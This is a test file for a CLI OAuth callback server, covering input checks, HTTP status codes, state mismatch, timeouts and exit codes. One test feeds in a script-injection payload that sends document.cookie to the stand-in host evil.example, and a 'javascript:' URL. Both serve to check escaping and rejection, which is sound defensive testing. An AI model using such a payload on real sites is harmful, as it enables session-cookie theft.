/**
 * `callback` as a whole CLI, in-process: input checks, what it serves before any AWS call (404, 400, provider errors
 * escaped, state checks), --once / --timeout / Ctrl-C exit codes, and a busy port. Completion against the local stack
 * is in callback-stack.test.ts.
 */
import { createServer } from 'node:net';
import { describe, expect, it } from 'vitest';
import { freePort } from '../fixtures/ports.js';
import { createTestContext, runCommand } from '../helpers/context.js';
import { fakeClock, untilOutput } from '../helpers/wait.js';

const URN = 'urn:ietf:params:oauth:request_uri:cli-test-session';

/** Start `callback` in-process and wait until it listens. */
async function startCallback(args: string[], options: Parameters<typeof createTestContext>[0] = {}) {
  const port = await freePort();
  const ctx = createTestContext({
    env: {
      AWS_REGION: 'us-east-1',
      AWS_ACCESS_KEY_ID: 'AKIDTEST',
      AWS_SECRET_ACCESS_KEY: 'x',
      AWS_ENDPOINT_URL: 'http://127.0.0.1:9',
    },
    ...options,
  });
  const run = runCommand(['callback', '--port', String(port), ...args], ctx);
  await untilOutput(() => ctx.stderr.text(), 'return URL', run, 2000);
  return { port, ctx, run, base: `http://127.0.0.1:${port}/oauth2/callback` };
}

describe('callback: inputs', () => {
  it('needs exactly one user identifier', async () => {
    const none = await runCommand(['callback']);
    expect(none.code).toBe(2);
    expect(none.stderr).toContain('error: pass the user identifier: --user-id, --user-token or --bearer');
    expect(none.stderr).toContain('hint: CompleteResourceTokenAuth needs the exact user id');
    const two = await runCommand(['callback', '--user-id', 'a', '--user-token', 'a.b.c']);
    expect(two.code).toBe(2);
    expect(two.stderr).toContain('error: pass only one of --user-id, --user-token, --bearer');
  });

  it('rejects a bad port, path, timeout or token', async () => {
    expect((await runCommand(['callback', '--user-id', 'a', '--port', 'http'])).stderr).toContain(
      '--port must be a whole number from 0 to 65535',
    );
    expect((await runCommand(['callback', '--user-id', 'a', '--path', 'cb'])).stderr).toContain(
      '--path must start with /',
    );
    expect((await runCommand(['callback', '--user-id', 'a', '--timeout', '-1'])).stderr).toContain(
      '--timeout must be a duration from 1 ms to 24 h',
    );
    const bad = await runCommand(['callback', '--user-token', 'AgV4notajwt']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('--user-token is not a JWT');
  });

  it('names the port when it is in use (exit 2)', async () => {
    const blocker = createServer();
    await new Promise<void>((r) => blocker.listen(0, '127.0.0.1', () => r()));
    const port = (blocker.address() as { port: number }).port;
    try {
      const r = await runCommand(['callback', '--user-id', 'alice', '--port', String(port)]);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain(`error: port ${port} on 127.0.0.1 is already in use`);
      expect(r.stderr).toContain('hint: ');
      expect(r.stdout).toBe('');
    } finally {
      await new Promise((r) => blocker.close(r));
    }
  });
});

describe('callback: serving', () => {
  it('404 elsewhere, 400 for a non-URN session id, escaped provider error → --once exits 4', async () => {
    const { run, base, port } = await startCallback(['--user-id', 'alice', '--once']);
    expect((await fetch(`http://127.0.0.1:${port}/other?session_id=${encodeURIComponent(URN)}`)).status).toBe(404);
    const bad = await fetch(`${base}?session_id=${encodeURIComponent('javascript:alert(1)')}`);
    expect(bad.status).toBe(400);
    const hostile = '<script>document.location="https://evil.example/?c="+document.cookie</script>';
    const res = await fetch(`${base}?error=access_denied&error_description=${encodeURIComponent(hostile)}`);
    const html = await res.text();
    expect(res.status).toBe(400);
    expect(html).not.toContain('<script>');
    expect(html).toContain(
      '&lt;script&gt;document.location=&quot;https://evil.example/?c=&quot;+document.cookie&lt;/script&gt;',
    );
    const r = await run;
    expect(r.code).toBe(4);
    expect(r.stdout).toBe('');
    expect(r.stderr).toContain(`return URL http://localhost:${port}/oauth2/callback`);
    expect(r.stderr).toContain('GET /other → 404 (not the return path)');
    expect(r.stderr).toContain('→ 400 (session_id is not a urn:ietf:params:oauth:request_uri: URN)');
    expect(r.stderr).toContain('✗ the provider refused the authorization: access_denied — <script>document.location=');
    // the terminal line is control-character free and the server is closed
    await expect(fetch(base)).rejects.toThrow();
  });

  it('--expect-state refuses a redirect with another state (exit 4 with --once), without calling AWS', async () => {
    const { run, base } = await startCallback(['--user-id', 'alice', '--once', '--expect-state', 'st-123']);
    const res = await fetch(`${base}?session_id=${encodeURIComponent(URN)}&state=forged`);
    expect(res.status).toBe(400);
    expect(await res.text()).toContain('State mismatch');
    const r = await run;
    expect(r.code).toBe(4);
    expect(r.stderr).toContain('refused: state does not match --expect-state (not completed)');
    expect(r.stderr).not.toContain('CompleteResourceTokenAuth');
  });

  it('--json writes one JSON line per session outcome on stdout', async () => {
    const { run, base } = await startCallback(['--user-id', 'alice', '--once', '--expect-state', 'st', '--json']);
    await fetch(`${base}?session_id=${encodeURIComponent(URN)}`);
    const r = await run;
    expect(r.code).toBe(4);
    const lines = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines).toEqual([{ at: expect.any(String), sessionUri: URN, status: 'state-mismatch' }]);
  });

  it('--timeout with no session → exit 5 naming the URL (fake clock)', async () => {
    const clock = fakeClock(0);
    const port = await freePort();
    const r = await runCommand(
      ['callback', '--user-id', 'alice', '--port', String(port), '--once', '--timeout', '120'],
      clock,
    );
    expect(r.code).toBe(5);
    expect(r.stderr).toContain(`error: no session arrived within 120 s at http://localhost:${port}/oauth2/callback`);
    expect(clock.now()).toBe(120_000);
  });

  it('Ctrl-C closes the server and exits 130', async () => {
    const ac = new AbortController();
    const { run, base } = await startCallback(['--user-id', 'alice'], { signal: ac.signal });
    expect((await fetch(`${base}`)).status).toBe(400);
    ac.abort();
    const r = await run;
    expect(r.code).toBe(130);
    expect(r.stderr).toContain('error: interrupted');
    await expect(fetch(base)).rejects.toThrow();
  });
});
